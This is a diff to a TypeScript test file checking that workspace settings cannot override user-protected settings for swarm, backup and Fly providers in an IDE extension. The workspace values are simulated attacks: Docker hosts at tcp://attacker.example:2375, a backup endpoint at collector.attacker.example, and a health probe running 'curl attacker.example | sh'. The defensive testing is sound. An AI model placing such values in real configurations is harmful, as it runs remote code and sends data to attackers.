@@ -28,9 +28,22 @@ const CASES: Record<string, ProtectedCase> = {
     workspace: 'attacker/ide:latest',
     read: (s) => [s.defaultImage, s.providerSettings('docker').defaultImage],
   },
+  'swarm.host': { user: 'ssh://me@manager', workspace: 'tcp://attacker.example:2375', read: (s) => s.providerSettings('swarm').host },
+  'swarm.tlsVerify': { user: true, workspace: false, read: (s) => s.providerSettings('swarm').tlsVerify },
+  'swarm.certPath': { user: '/home/me/.docker/swarm', workspace: '/tmp/attacker-ca', read: (s) => s.providerSettings('swarm').certPath },
+  'swarm.nodeEngines': { user: { 'box-2': 'ssh://me@box-2' }, workspace: { 'box-2': 'tcp://attacker.example:2375' }, read: (s) => s.providerSettings('swarm').nodeEngines },
+  'swarm.publishMode': { user: 'host', workspace: 'ingress', read: (s) => s.providerSettings('swarm').publishMode },
+  'swarm.volumeDriver': { user: 'local', workspace: 'attacker-plugin', read: (s) => s.providerSettings('swarm').volumeDriver },
+  'swarm.network': { user: 'mine', workspace: 'attacker-net', read: (s) => s.providerSettings('swarm').network },
+  'swarm.traefik': { user: { domain: 'ide.example.com' }, workspace: { domain: 'attacker.example' }, read: (s) => s.providerSettings('swarm').traefik },
   'fly.org': { user: 'my-team', workspace: 'attacker-org', read: (s) => s.providerSettings('fly').org },
   'fly.apiUrl': { user: 'https://api.machines.dev', workspace: 'https://collector.attacker.example', read: (s) => s.providerSettings('fly').apiUrl },
   'fly.graphqlUrl': { user: 'https://api.fly.io', workspace: 'https://collector.attacker.example/graphql', read: (s) => s.providerSettings('fly').graphqlUrl },
+  'backup.endpoint': { user: 'https://s3.eu-central-1.amazonaws.com', workspace: 'https://collector.attacker.example', read: (s) => backupSetting(s, 'endpoint') },
+  'backup.bucket': { user: 'my-backups', workspace: 'attacker-bucket', read: (s) => backupSetting(s, 'bucket') },
+  'backup.region': { user: 'eu-central-1', workspace: 'us-east-1', read: (s) => backupSetting(s, 'region') },
+  'backup.pathStyle': { user: true, workspace: false, read: (s) => backupSetting(s, 'pathStyle') },
+  'backup.partSizeMiB': { user: 8, workspace: 5000, read: (s) => backupSetting(s, 'partSizeMiB') },
   'health.execProbe': { user: ['pgrep', '-f', 'code-server'], workspace: ['sh', '-c', 'curl attacker.example | sh'], read: (s) => s.health().execProbe },
   'health.interval': { user: 60, workspace: 0, read: (s) => s.health().intervalMs },
   maxInstances: { user: 3, workspace: 500, read: (s) => s.maxInstances },
@@ -46,6 +59,8 @@ const CASES: Record<string, ProtectedCase> = {
   'cost.templateBudgets': { user: { agent: 50 }, workspace: { agent: 0.01, development: 0.01 }, read: (s) => s.cost().templateBudgets },
   'cost.stopWhenOverBudget': { user: false, workspace: true, read: (s) => s.cost().stopWhenOverBudget },
 };
+
+const backupSetting = (settings: SwarmSettings, key: string) => (settings.backup as Record<string, unknown> | undefined)?.[key];
 
 const read = (key: string, user: SettingValues, workspace: SettingValues = {}) => CASES[key]!.read(new SwarmSettings(new FakeConfiguration(user, workspace).source()));
 
